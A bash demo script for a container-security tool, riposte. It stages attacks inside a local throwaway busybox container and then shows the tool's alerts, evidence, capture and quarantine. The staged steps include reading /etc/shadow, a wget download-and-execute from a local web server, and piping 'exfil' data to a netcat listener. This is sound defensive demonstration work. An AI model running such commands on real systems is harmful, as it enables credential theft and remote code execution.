#!/usr/bin/env bash
# make demo: with `make run` serving in another terminal, attack a demo
# container the way the seeds describe (an interactive shell, a credential
# read, download-and-execute, an outbound connection) and show what riposte
# did about it: alerts, playbooks, evidence with hashes, capture, container
# state, and the journal. Everything stays on this machine: the "download"
# and the outbound connection go to servers this script starts on the
# Docker bridge.
set -euo pipefail
cd "$(dirname "$0")/.."
data=${DATA:-riposte-data}
config=${CONFIG:-examples/riposte.yaml}
addr=${RIPOSTE_ADDR:-127.0.0.1:8080}
bin=${BIN:-bin/riposte}
name=demo-shop
image=riposte-demo/shop:1

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
step() { printf '\033[36m$ %s\033[0m\n' "$*"; }

for tool in docker jq busybox; do
	command -v "$tool" >/dev/null || { echo "demo needs $tool (scripts/install-deps.sh installs it)" >&2; exit 1; }
done
[ -x "$bin" ] || go build -o "$bin" ./cmd/riposte
for _ in $(seq 1 30); do
	curl -fs "http://$addr/readyz" >/dev/null 2>&1 && break
	sleep 1
done
curl -fs "http://$addr/readyz" >/dev/null 2>&1 || { echo "riposte is not serving on $addr: start it with 'make run' in another terminal" >&2; exit 1; }

# The demo image: busybox-static and its applets, imported (no registry).
if ! docker image inspect "$image" >/dev/null 2>&1; then
	root=$(mktemp -d)
	mkdir -p "$root/bin" "$root/etc" "$root/tmp" "$root/root"
	cp "$(command -v busybox)" "$root/bin/busybox"
	for a in $(busybox --list); do [ "$a" = busybox ] || ln -sf busybox "$root/bin/$a"; done
	echo 'root:x:0:0:root:/root:/bin/sh' >"$root/etc/passwd"
	echo 'root:$6$demo$notarealhash:19000:0:99999:7:::' >"$root/etc/shadow"
	chmod 1777 "$root/tmp"
	tar -C "$root" -c . | docker import -c 'ENV PATH=/bin' -c 'CMD ["/bin/sh"]' - "$image" >/dev/null
	rm -rf "$root"
fi

docker rm -f "$name" >/dev/null 2>&1 || true
docker run -d --name "$name" "$image" sleep 3600 >/dev/null
id=$(docker inspect -f '{{.Id}}' "$name")
short=${id:0:12}
gw=$(docker network inspect bridge -f '{{(index .IPAM.Config 0).Gateway}}')
[ -n "$gw" ] || gw=$(ip -4 -o addr show docker0 | awk '{print $4}' | cut -d/ -f1)
since=$(date -u +%Y-%m-%dT%H:%M:%SZ)

# The attacker's side, on the bridge: a web server with a "tool" to
# download, and a listener for the outbound connection.
www=$(mktemp -d)
cp "$(command -v busybox)" "$www/tool"
busybox httpd -f -p "$gw:18777" -h "$www" &
httpd=$!
busybox nc -l -p 14444 >/dev/null 2>&1 &
listener=$!
trap 'kill $httpd $listener 2>/dev/null || true; rm -rf "$www"' EXIT
sleep 0.3

say "The attack on container $name ($short)"
step "docker exec -t $name sh -c 'id; hostname'            # an interactive shell"
docker exec -t "$name" sh -c 'id; hostname' | sed 's/^/    /'
step "docker exec $name cat /etc/shadow                  # credential access"
docker exec "$name" cat /etc/shadow | sed 's/^/    /'
step "docker exec $name sh -c 'wget -qO /tmp/ls http://$gw:18777/tool && chmod +x /tmp/ls && /tmp/ls /'   # download and execute"
docker exec "$name" sh -c "wget -qO /tmp/ls http://$gw:18777/tool && chmod +x /tmp/ls && /tmp/ls /" | tr '\n' ' ' | sed 's/^/    /; s/$/\n/' || true
step "docker exec $name sh -c 'echo exfil | nc $gw 14444'   # an outbound connection"
docker exec "$name" sh -c "echo exfil | nc -w 2 $gw 14444" || true
sleep 2

journal() { "$bin" journal show --data "$data" --since "$since" --output json; }
mine() { jq -c --arg c "$short" 'select((.detail.container_id // .detail.container // "" | tostring | startswith($c)) or (.alert_id as $a | $a != ""))'; }

say "What riposte saw (alerts, in ~50 ms of each event)"
journal | jq -r --arg c "$short" 'select(.type=="alert.received" and .detail.container_id==$c) | "  \(.time[11:23])  \(.detail.priority)  \(.detail.rule)"'

say "What it did (each playbook's actions, first time; repeats of an incident are folded)"
ids=$(journal | jq -r --arg c "$short" 'select(.type=="alert.received" and .detail.container_id==$c) | .alert_id' | sort -u)
journal | jq -s -r --argjson ids "$(printf '%s\n' $ids | jq -R . | jq -s .)" '
	map(select((.alert_id as $a | $ids | index($a)) and .action != "journal.note"
		and (.type | test("^action\\.(succeeded|failed|held_for_approval|blocked_protected|queued|skipped)$")))
		| {t: .time[11:23], key: "\(.playbook)  \(.action)", what: (.type | sub("^action\\."; "")),
		   note: ((.detail.note // .detail.reason // "") | tostring | .[0:110])})
	| group_by(.key + .what) | map(first) | sort_by(.t)[]
	| "  \(.t)  \(.key)  \(.what)\(if .note != "" then ": " + .note else "" end)"'

say "Evidence (snapshot bundles: manifest hash in the journal, file hashes in the manifest)"
bundles=$(find "$data/evidence" -path "*/$short/*" -name manifest.json -newermt "$since" 2>/dev/null | grep -v '/capture-' | sort)
echo "  $(echo "$bundles" | grep -c . ) snapshot bundles; the first:"
for m in $(echo "$bundles" | head -1); do
	echo "  $(dirname "$m")"
	echo "    manifest sha256 $(sha256sum "$m" | cut -c1-64)"
	jq -r '.files[] | "    \(.name)  \(.size) bytes  sha256 \(.sha256[0:16])…"' "$m" 2>/dev/null || true
done

say "The attacker keeps going; the capture records it"
step "docker exec $name sh -c 'cat /etc/hostname; ls /tmp'"
docker exec "$name" sh -c 'cat /etc/hostname; ls /tmp' | tr '\n' ' ' | sed 's/^/    /; s/$/\n/' || true
sleep 1.5 # the capture flushes every second

say "Capture (system calls + pcapng, recording in the background)"
for c in $(find "$data/evidence" -path "*/$short/capture-*" -maxdepth 4 -type d -newermt "$since" 2>/dev/null | head -1); do
	ls -la "$c" | sed 's/^/  /' | tail -n +2
	echo "  riposte capture read $c/syscalls.jsonl.gz --view procs"
	"$bin" capture read "$c/syscalls.jsonl.gz" --view procs 2>/dev/null | head -12 | sed 's/^/    /' || true
	echo "  riposte capture read …/syscalls.jsonl.gz --view files"
	"$bin" capture read "$c/syscalls.jsonl.gz" --view files 2>/dev/null | grep -v '^$' | head -8 | sed 's/^/    /' || true
done

say "On-call acts from the terminal (journaled with their OS user)"
step "riposte act container.quarantine --container $name"
"$bin" act container.quarantine --container "$name" --data "$data" --config "$config" | sed 's/^/    /'

say "Container state"
docker inspect -f '  paused={{.State.Paused}}  networks={{len .NetworkSettings.Networks}} ({{range $k, $v := .NetworkSettings.Networks}}{{$k}} {{end}})' "$name"
held=$(journal | jq -r --argjson ids "$(printf '%s\n' $ids | jq -R . | jq -s .)" 'select(.type=="action.held_for_approval" and (.alert_id as $a | $ids | index($a))) | .action' | sort -u | tr '\n' ' ')
[ -n "$held" ] && echo "  waiting for approval in Slack (or its timeout): $held"

say "The journal"
"$bin" journal verify --data "$data" | sed 's/^/  /'
echo "  full trail: $bin journal show --data $data --since $since"
echo
echo "Clean up: docker rm -f $name"
